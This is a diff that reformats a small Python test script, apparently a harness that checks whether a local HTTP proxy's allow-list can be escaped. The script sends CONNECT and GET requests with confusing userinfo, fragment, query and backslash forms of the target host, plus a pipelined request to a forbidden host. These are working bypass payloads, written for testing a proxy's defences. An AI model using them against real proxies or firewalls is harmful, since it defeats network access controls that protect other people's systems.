@@ -7,8 +7,14 @@
 # Readers of URLs differ about userinfo; the checker sees the one name, the connector the other.
 import socket
 
-_TARGETS = ("allowed.example@other.example:80", "allowed.example:80@other.example:80", "other.example:80#@allowed.example:80",
-            "other.example:80?@allowed.example:80", "other.example:80\\@allowed.example:80", "[allowed.example]@other.example:80")
+_TARGETS = (
+    "allowed.example@other.example:80",
+    "allowed.example:80@other.example:80",
+    "other.example:80#@allowed.example:80",
+    "other.example:80?@allowed.example:80",
+    "other.example:80\\@allowed.example:80",
+    "[allowed.example]@other.example:80",
+)
 
 
 def _talk(host, port, text):
@@ -26,9 +32,15 @@ def _talk(host, port, text):
 
 def attack():
     for target in _TARGETS:
-        for first in (f"CONNECT {target} HTTP/1.1\r\nHost: allowed.example\r\n\r\n",
-                      f"GET http://{target}/ HTTP/1.1\r\nHost: allowed.example\r\nConnection: close\r\n\r\n"):
-            answer = _talk("127.0.0.1", 15001, (first + "GET / HTTP/1.1\r\nHost: other.example\r\nConnection: close\r\n\r\n").encode())
+        for first in (
+            f"CONNECT {target} HTTP/1.1\r\nHost: allowed.example\r\n\r\n",
+            f"GET http://{target}/ HTTP/1.1\r\nHost: allowed.example\r\nConnection: close\r\n\r\n",
+        ):
+            answer = _talk(
+                "127.0.0.1",
+                15001,
+                (first + "GET / HTTP/1.1\r\nHost: other.example\r\nConnection: close\r\n\r\n").encode(),
+            )
             if b"93.184.216.35" in answer:
                 return f"ESCAPED: {target} led to other.example"
     return "HELD: a target with userinfo leads nowhere"
